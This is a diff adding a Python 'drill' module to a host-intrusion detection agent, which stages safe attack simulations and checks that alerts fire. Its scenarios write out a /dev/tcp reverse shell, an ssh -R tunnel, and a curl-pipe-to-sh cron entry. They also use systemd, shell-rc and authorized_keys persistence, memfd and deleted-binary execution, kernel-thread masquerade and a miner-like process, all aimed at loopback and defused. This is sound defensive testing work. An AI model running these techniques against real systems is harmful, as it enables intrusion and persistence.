@@ -1,0 +1,665 @@
+"""`sentinel drill`: safe scenarios against the running agent, read back from its alert log.
+
+Every scenario acts (a miner-like burner, a tunnel attempt, a persistence entry...), then
+waits, with a deadline, for a finding of the control expected to catch it. Nothing real
+is used: burners are python loops, the pool and the tunnel peers are servers on
+127.0.0.1 that never leave the box, wallets are random bytes with a valid checksum,
+persistence entries never fire (a cron line for 31 February, a unit never enabled) and
+are removed or restored from a backup as soon as the scenario ends. Everything the drill
+starts runs in its own session and is ended by pid; every file it touched is restored,
+even on Ctrl-C or SIGTERM. The drill registers itself in `state_dir/drill.json` so that
+the agent marks its findings `drill: true` and [DRILL] (sentinel/evidence/drillmark.py).
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import json
+import os
+import secrets
+import shutil
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from glob import glob
+from pathlib import Path
+from typing import Any
+
+from sentinel.core.config import Config
+from sentinel.core.model import Severity
+from sentinel.evidence import drillmark
+from sentinel.evidence.drillkit import (
+    FakePool,
+    fake_elf_miner,
+    fake_monero_address,
+    free_pool_port,
+    write_burner,
+)
+from sentinel.evidence.timeline import record_time
+from sentinel.sinks._http import acks
+
+Record = dict[str, Any]
+Match = Callable[[Record], bool]
+PYTHON = os.path.realpath(sys.executable)
+REGISTRY_TTL = 300.0  # seconds a registry stays valid without being rewritten
+ACK_WAIT = 5.0  # seconds the drill waits at the end for sinks to acknowledge
+# the detector names a finding carries, for each detector that can be disabled
+RECORD_DETECTORS = {"filesig": {"filesig", "yara"}}
+SHELL_RC = (".bashrc", ".bash_profile", ".profile", ".zshrc")
+KEY_FILES = ("authorized_keys", "authorized_keys2")
+
+
+class Skip(Exception):
+    """A scenario that cannot run on this box (no ssh, no canary configured...)."""
+
+
+@dataclass
+class Row:
+    scenario: str
+    control: str
+    caught_by: str = ""
+    latency: float | None = None
+    severity: str = ""
+    sinks: list[str] = field(default_factory=list)
+    finding_id: str = ""
+    status: str = "missed"  # caught | missed | skipped
+    note: str = ""
+
+    def to_record(self) -> dict[str, Any]:
+        return {
+            "scenario": self.scenario,
+            "control": self.control,
+            "caught_by": self.caught_by or None,
+            "latency_s": None if self.latency is None else round(self.latency, 3),
+            "severity": self.severity or None,
+            "sinks": self.sinks,
+            "finding_id": self.finding_id or None,
+            "status": self.status,
+            "note": self.note,
+        }
+
+
+@dataclass
+class Scenario:
+    name: str
+    control: str  # the detector expected to catch it (as in [detectors] disable)
+    category: str  # the category of the finding that counts
+    act: Callable[[Drill], Match]
+    timeout_extra: float = 0.0  # seconds beyond the base deadline (collectors that poll)
+    rule: str = ""  # when set, only this rule counts
+
+    def counts(self, rec: Record) -> bool:
+        detectors = RECORD_DETECTORS.get(self.control, {self.control})
+        return (
+            rec.get("detector") in detectors
+            and rec.get("category") == self.category
+            and (not self.rule or rec.get("rule") == self.rule)
+        )
+
+
+class LogTail:
+    """New findings in the agent's alert log since the drill began."""
+
+    def __init__(self, path: str) -> None:
+        self.path = path
+        try:
+            self.offset = os.path.getsize(path)
+        except OSError:
+            self.offset = 0
+        self.records: list[Record] = []
+
+    def poll(self) -> list[Record]:
+        try:
+            with open(self.path, "rb") as f:
+                if os.fstat(f.fileno()).st_size < self.offset:
+                    self.offset = 0  # rotated
+                f.seek(self.offset)
+                data = f.read()
+        except FileNotFoundError:
+            return self.records
+        complete = data[: data.rfind(b"\n") + 1]
+        self.offset += len(complete)
+        for line in complete.splitlines():
+            with contextlib.suppress(ValueError):
+                rec = json.loads(line)
+                if isinstance(rec, dict) and "rule" in rec:
+                    self.records.append(rec)
+        return self.records
+
+
+class Staller:
+    """A TCP server on 127.0.0.1 that accepts and never says a word."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.conns: list[socket.socket] = []
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                self.conns.append(self.sock.accept()[0])
+            except OSError:
+                return
+
+    def close(self) -> None:
+        self.sock.close()
+        for c in self.conns:
+            c.close()
+        self.thread.join(5)
+
+
+def fake_ssh_key() -> str:
+    """An ed25519 public key line over random bytes: its private key exists nowhere."""
+    blob = b"".join(
+        len(part).to_bytes(4, "big") + part for part in (b"ssh-ed25519", secrets.token_bytes(32))
+    )
+    return f"ssh-ed25519 {base64.b64encode(blob).decode()} sentinel-drill"
+
+
+def _regular(path: str) -> bool:
+    try:
+        return stat.S_ISREG(os.lstat(path).st_mode)
+    except OSError:
+        return False
+
+
+class Drill:
+    """One drill run: its scratch dir, its processes, its backups and its registry."""
+
+    def __init__(self, cfg: Config, timeout: float = 15.0, with_load: bool = False) -> None:
+        self.cfg = cfg
+        self.timeout = timeout
+        self.with_load = with_load
+        self.tag = secrets.token_hex(4)
+        self.registry = drillmark.path_of(cfg.agent.state_dir)
+        self.marks = drillmark.Marks(pids={os.getpid()})
+        self.groups: list[int] = []  # session ids (= leader pids) of what the drill started
+        self.restores: list[Callable[[], None]] = []
+        self.stack = contextlib.ExitStack()
+        self.detached: list[int] = []  # pids of daemons re-parented to init
+        self.pool: FakePool | None = None
+        self.staller: Staller | None = None
+        self.work = Path()
+        self.tail = LogTail(cfg.alert_log)
+        self.keep = 0  # background processes (load) kept across scenarios
+
+    # setup and teardown
+    def __enter__(self) -> Drill:
+        try:
+            self._setup()
+        except BaseException:
+            self.cleanup()
+            raise
+        return self
+
+    def _setup(self) -> None:
+        self.mark()
+        watch = next((p for p in self.cfg.watch.paths if os.path.isdir(p)), None)
+        if watch is None:
+            raise Skip("no watched drop directory exists")
+        self.work = Path(tempfile.mkdtemp(prefix=f"sentinel-drill-{self.tag}-", dir=watch))
+        self.marks.paths.append(str(self.work))
+        self.mark()
+        self.pool = self.stack.enter_context(free_pool_port())
+        self.staller = Staller()
+        if self.with_load:
+            for _ in range(os.cpu_count() or 1):
+                self.spawn([PYTHON, "-c", "while True: pass"])
+
+    def __exit__(self, *exc: object) -> None:
+        self.cleanup()
+
+    def cleanup(self) -> None:
+        """End every process by its session, restore every file, drop the registry."""
+        for sid in self.groups:
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                os.killpg(sid, signal.SIGKILL)
+        for sid in self.groups:
+            with contextlib.suppress(ChildProcessError):
+                os.waitpid(sid, 0)
+        self.groups.clear()
+        while self.restores:
+            restore = self.restores.pop()
+            with contextlib.suppress(OSError):
+                restore()
+        self._kill_detached()
+        with contextlib.suppress(Exception):
+            self.stack.close()
+        self.pool = None
+        if self.staller is not None:
+            self.staller.close()
+            self.staller = None
+        if self.work != Path() and self.work.is_dir():
+            shutil.rmtree(self.work, ignore_errors=True)
+        with contextlib.suppress(FileNotFoundError):
+            os.unlink(self.registry)
+
+    def mark(self) -> None:
+        self.marks.until = time.time() + REGISTRY_TTL
+        drillmark.write(self.registry, self.marks)
+
+    # what scenarios use
+    def spawn(self, argv: list[str], env: dict[str, str] | None = None) -> int:
+        """Run argv under a shell of its own, in a new session; the shell's pid."""
+        p = subprocess.Popen(
+            ["sh", "-c", '"$@"; exit 0', "sh", *argv],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            start_new_session=True,
+            env={**os.environ, **(env or {})},
+        )
+        self.groups.append(p.pid)
+        return p.pid
+
+    def spawn_detached(self, code: str) -> int:
+        """Run python `code` in a daemon re-parented to init, registered before it runs.
+
+        Detached, it descends from nothing that alerted before (the engine folds a finding
+        into an older alert about an ancestor); the registry lists its pid, so its findings
+        are still marked as the drill's.
+        """
+        launcher = (
+            "import os, sys\n"
+            "if os.fork(): os._exit(0)\n"
+            "os.setsid()\n"
+            "if os.fork(): os._exit(0)\n"
+            "print(os.getpid(), flush=True)\n"
+            "sys.stdin.readline()\n"
+        ) + code
+        p = subprocess.Popen(
+            [PYTHON, "-c", launcher],
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.DEVNULL,
+            text=True,
+        )
+        assert p.stdin is not None and p.stdout is not None
+        try:
+            pid = int(p.stdout.readline())
+        except ValueError:
+            raise Skip("the detached helper did not start") from None
+        finally:
+            p.wait(10)
+        self.detached.append(pid)
+        self.marks.pids.add(pid)
+        self.mark()
+        p.stdin.write("go\n")
+        p.stdin.close()
+        return pid
+
+    def _kill_detached(self) -> None:
+        for pid in self.detached:
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                os.kill(pid, signal.SIGKILL)
+        self.detached.clear()
+
+    def file(self, name: str, data: str | bytes, mode: int = 0o644) -> Path:
+        path = self.work / name
+        path.write_bytes(data.encode() if isinstance(data, str) else data)
+        path.chmod(mode)
+        return path
+
+    def append(self, path: str, text: str) -> None:
+        """Append to an existing regular file, restored from a backup when the scenario ends."""
+        if not _regular(path):
+            raise Skip(f"{path} is not a regular file")
+        fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_CLOEXEC)
+        with os.fdopen(fd, "rb") as f:
+            backup = f.read()
+
+        def restore() -> None:
+            out = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOFOLLOW | os.O_CLOEXEC)
+            with os.fdopen(out, "wb") as f:
+                f.write(backup)
+
+        self.watch_path(path)
+        self.restores.append(restore)
+        out = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NOFOLLOW | os.O_CLOEXEC)
+        with os.fdopen(out, "w") as f:
+            f.write(text if backup.endswith(b"\n") or not backup else "\n" + text)
+
+    def create(self, directory: str, name: str, text: str) -> str:
+        """A new file in a persistence directory, removed when the scenario ends."""
+        path = os.path.join(directory, name)
+        self.watch_path(path)
+        fd = os.open(
+            path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW | os.O_CLOEXEC, 0o644
+        )
+        self.restores.append(lambda: os.unlink(path))
+        with os.fdopen(fd, "w") as f:
+            f.write(text)
+        return path
+
+    def watch_path(self, path: str) -> None:
+        self.marks.paths.append(path)
+        self.mark()
+
+    def end_scenario(self) -> None:
+        """Undo what the scenario left: its processes, its files, its registry paths."""
+        for sid in self.groups[self.keep :]:
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                os.killpg(sid, signal.SIGKILL)
+            with contextlib.suppress(ChildProcessError):
+                os.waitpid(sid, 0)
+        del self.groups[self.keep :]
+        self._kill_detached()
+        while self.restores:
+            with contextlib.suppress(OSError):
+                self.restores.pop()()
+        self.marks.paths = self.marks.paths[:1]
+        self.mark()
+
+    def wait(self, scenario: Scenario, match: Match, started: float) -> Row:
+        row = Row(scenario.name, scenario.control)
+        deadline = time.monotonic() + self.timeout + scenario.timeout_extra
+        seen = 0
+        while time.monotonic() < deadline:
+            records = self.tail.poll()
+            for rec in records[seen:]:
+                if match(rec) and scenario.counts(rec):
+                    row.status, row.caught_by = "caught", str(rec.get("rule"))
+                    row.latency = max(0.0, record_time(rec) - started)
+                    row.severity, row.finding_id = str(rec.get("severity")), str(rec.get("id"))
+                    row.sinks = ["log"]
+                    return row
+            seen = len(records)
+            time.sleep(0.1)
+        row.note = f"no {scenario.control} finding in {self.timeout + scenario.timeout_extra:.0f}s"
+        return row
+
+    def run(self, scenarios: list[Scenario]) -> list[Row]:
+        self.keep = len(self.groups)
+        rows = []
+        for sc in scenarios:
+            started = time.time()
+            try:
+                match = sc.act(self)
+            except Skip as exc:
+                rows.append(Row(sc.name, sc.control, status="skipped", note=str(exc)))
+                self.end_scenario()
+                continue
+            try:
+                rows.append(self.wait(sc, match, started))
+            finally:
+                self.end_scenario()
+        self.acknowledged(rows)
+        return rows
+
+    def acknowledged(self, rows: list[Row]) -> None:
+        """Add the sinks whose endpoint accepted each caught finding (their acks files)."""
+        wanted = {s.name: Severity.parse(s.min_severity) for s in self.cfg.sinks if s.name}
+        deadline = time.monotonic() + ACK_WAIT
+        while True:
+            missing = False
+            for row in rows:
+                if row.status != "caught":
+                    continue
+                for name, floor in wanted.items():
+                    if Severity.parse(row.severity) < floor or name in row.sinks:
+                        continue
+                    path = acks.path_for(self.cfg.agent.state_dir, name)
+                    if row.finding_id in acks.read(path):
+                        row.sinks.append(name)
+                    else:
+                        missing = True
+            if not missing or time.monotonic() > deadline:
+                return
+            time.sleep(0.2)
+
+
+# matchers
+
+
+def by_process(pid: int) -> Match:
+    """A finding about process `pid` or one of its descendants."""
+
+    def match(rec: Record) -> bool:
+        proc = rec.get("process") or {}
+        return proc.get("pid") == pid or any(a.get("pid") == pid for a in proc.get("ancestors", []))
+
+    return match
+
+
+def by_file(path: str | Path) -> Match:
+    def match(rec: Record) -> bool:
+        return (rec.get("file") or {}).get("path") == str(path)
+
+    return match
+
+
+# scenarios
+
+
+def _miner_stratum(d: Drill) -> Match:
+    assert d.pool is not None
+    burner = write_burner(d.work / "xmrig")
+    url = f"stratum+tcp://127.0.0.1:{d.pool.port}"
+    pid = d.spawn(
+        [str(burner), "-o", url, "-u", fake_monero_address(), "--donate-level", "1"],
+        {"BURN_SECONDS": "20"},
+    )
+    return by_process(pid)
+
+
+def _miner_config(d: Drill) -> dict[str, Any]:
+    assert d.pool is not None
+    return {
+        "donate-level": 1,
+        "randomx": {"1gb-pages": True},
+        "pools": [
+            {
+                "url": f"127.0.0.1:{d.pool.port}",
+                "user": fake_monero_address(),
+                "pass": "x",
+                "keepalive": True,
+                "nicehash": False,
+            }
+        ],
+    }
+
+
+def _renamed_burner(d: Drill) -> Match:
+    burner = write_burner(d.work / "data-sync")
+    conf = d.file("sync.json", json.dumps(_miner_config(d)))
+    return by_process(d.spawn([str(burner), "-c", str(conf)], {"BURN_SECONDS": "20"}))
+
+
+def _dropped_config(d: Drill) -> Match:
+    return by_file(d.file(f"config-{d.tag}.json", json.dumps(_miner_config(d))))
+
+
+def _dropped_miner(d: Drill) -> Match:
+    return by_file(fake_elf_miner(d.work / f"kdevtmp-{d.tag}"))
+
+
+def _reverse_tunnel(d: Drill) -> Match:
+    assert d.staller is not None
+    ssh = shutil.which("ssh")
+    if ssh is None:
+        raise Skip("no ssh client installed")
+    argv = [
+        ssh,
+        "-N",
+        "-o",
+        "BatchMode=yes",
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "ConnectTimeout=15",
+        "-p",
+        str(d.staller.port),
+        "-R",
+        "2222:localhost:22",
+        "drill@127.0.0.1",
+    ]
+    return by_process(d.spawn(argv))
+
+
+def _dev_tcp_shell(d: Drill) -> Match:
+    assert d.staller is not None
+    bash = shutil.which("bash")
+    if bash is None:
+        raise Skip("no bash installed")
+    script = f"bash -i >& /dev/tcp/127.0.0.1/{d.staller.port} 0>&1"
+    return by_process(d.spawn([bash, "-c", script]))
+
+
+def persistence_paths(cfg: Config) -> list[str]:
+    """Every configured persistence place, with home files expanded in each home."""
+    out = list(cfg.watch.persistence)
+    for pattern in cfg.watch.homes:
+        for home in sorted(glob(pattern)):
+            out.extend(os.path.join(home, f) for f in cfg.watch.home_files)
+    return out
+
+
+def _cron(d: Drill) -> Match:
+    dirs = [
+        p for p in persistence_paths(d.cfg) if p.rstrip("/").endswith("cron.d") and os.path.isdir(p)
+    ]
+    if not dirs:
+        raise Skip("no cron.d directory among the watched persistence places")
+    # 31 February never comes; the command only reaches a closed port on loopback
+    line = f"0 0 31 2 * root curl -fsS http://127.0.0.1:9/sentinel-drill-{d.tag} | sh\n"
+    return by_file(d.create(dirs[0], f"sentinel-drill-{d.tag}", line))
+
+
+def _systemd(d: Drill) -> Match:
+    dirs = [
+        p
+        for p in persistence_paths(d.cfg)
+        if p.rstrip("/").endswith("systemd/system") and os.path.isdir(p)
+    ]
+    if not dirs:
+        raise Skip("no systemd unit directory among the watched persistence places")
+    unit = f"[Service]\nExecStart=/var/tmp/.sentinel-drill-{d.tag}/kworker\nRestart=always\n"
+    return by_file(d.create(dirs[0], f"sentinel-drill-{d.tag}.service", unit))
+
+
+def _shell_rc(d: Drill) -> Match:
+    files = [p for p in persistence_paths(d.cfg) if os.path.basename(p) in SHELL_RC and _regular(p)]
+    if not files:
+        raise Skip("no shell rc file among the watched persistence places")
+    d.append(files[0], f"nohup /nonexistent/sentinel-drill-{d.tag} >/dev/null 2>&1 &\n")
+    return by_file(files[0])
+
+
+def _authorized_keys(d: Drill) -> Match:
+    files = [
+        p for p in persistence_paths(d.cfg) if os.path.basename(p) in KEY_FILES and _regular(p)
+    ]
+    if not files:
+        raise Skip("no authorized_keys file among the watched persistence places")
+    d.append(files[0], fake_ssh_key() + "\n")
+    return by_file(files[0])
+
+
+def _canary(d: Drill) -> Match:
+    canaries = [p for p in d.cfg.canaries.paths if _regular(p)]
+    if not canaries:
+        raise Skip("no canary configured")
+    code = f"import time; open({canaries[0]!r}, 'rb').read(1); time.sleep(10)"
+    return by_process(d.spawn([PYTHON, "-c", code]))
+
+
+def _wallet_file(d: Drill) -> Match:
+    return by_file(d.file(f"payout-{d.tag}.txt", f"wallet = {fake_monero_address()}\n"))
+
+
+def _memfd(d: Drill) -> Match:
+    sleep = shutil.which("sleep") or "/bin/sleep"
+    code = (
+        "import os\n"
+        "fd = os.memfd_create('payload', 0)\n"
+        f"os.write(fd, open({sleep!r}, 'rb').read())\n"
+        "os.execve(fd, ['sleep', '20'], {})\n"
+    )
+    return by_process(d.spawn_detached(code))
+
+
+def _deleted_binary(d: Drill) -> Match:
+    shell = d.work / f"upd-{d.tag}"
+    shutil.copy(shutil.which("bash") or "/bin/bash", shell)
+    shell.chmod(0o755)
+    # the copy deletes itself, then forks a subshell that keeps running the deleted binary
+    return by_process(d.spawn([str(shell), "-c", f"rm -f {shell}; (sleep 20; :) & wait"]))
+
+
+def _kthread(d: Drill) -> Match:
+    sleeper = d.work / "sleep"
+    shutil.copy(shutil.which("sleep") or "/bin/sleep", sleeper)
+    sleeper.chmod(0o755)
+    bash = shutil.which("bash") or "/bin/bash"
+    return by_process(d.spawn([bash, "-c", f"exec -a '[kworker/0:1]' {sleeper} 20"]))
+
+
+def scenarios(cfg: Config) -> list[Scenario]:
+    net = cfg.agent.interval * 2 + 5
+    return [
+        Scenario("miner-stratum", "process", "miner", _miner_stratum),
+        Scenario("renamed-burner-pool-in-config", "network", "network", _renamed_burner, net),
+        Scenario("dropped-miner-config", "filesig", "miner", _dropped_config),
+        Scenario("dropped-miner-binary", "filesig", "miner", _dropped_miner),
+        Scenario(
+            "reverse-tunnel-ssh-R", "process", "tunnel", _reverse_tunnel, rule="tunnel.ssh_reverse"
+        ),
+        Scenario(
+            "reverse-shell-dev-tcp",
+            "process",
+            "tunnel",
+            _dev_tcp_shell,
+            rule="tunnel.reverse_shell",
+        ),
+        Scenario("cron-persistence", "persistence", "persistence", _cron),
+        Scenario("systemd-unit-persistence", "persistence", "persistence", _systemd),
+        Scenario("shell-rc-persistence", "persistence", "persistence", _shell_rc),
+        Scenario("authorized-keys", "persistence", "persistence", _authorized_keys),
+        Scenario("canary-read", "canary", "canary", _canary),
+        Scenario("wallet-in-dropped-file", "filesig", "wallet", _wallet_file),
+        Scenario("memfd-exec", "process", "evasion", _memfd, rule="evasion.exec_memfd"),
+        Scenario(
+            "deleted-binary", "process", "evasion", _deleted_binary, rule="evasion.exec_deleted"
+        ),
+        Scenario(
+            "kernel-thread-masquerade",
+            "process",
+            "evasion",
+            _kthread,
+            rule="evasion.kthread_masquerade",
+        ),
+    ]
+
+
+@contextlib.contextmanager
+def interrupts_as_keyboard() -> Iterator[None]:
+    """SIGTERM and SIGHUP end the drill like Ctrl-C does: through its cleanup."""
+
+    def raise_interrupt(signum: int, frame: object) -> None:
+        raise KeyboardInterrupt
+
+    old = {s: signal.signal(s, raise_interrupt) for s in (signal.SIGTERM, signal.SIGHUP)}
+    try:
+        yield
+    finally:
+        for s, h in old.items():
+            signal.signal(s, h)
+
+
+def run(cfg: Config, only: list[str], timeout: float, with_load: bool) -> list[Row]:
+    chosen = [s for s in scenarios(cfg) if not only or s.name in only]
+    with interrupts_as_keyboard(), Drill(cfg, timeout, with_load) as drill:
+        return drill.run(chosen)
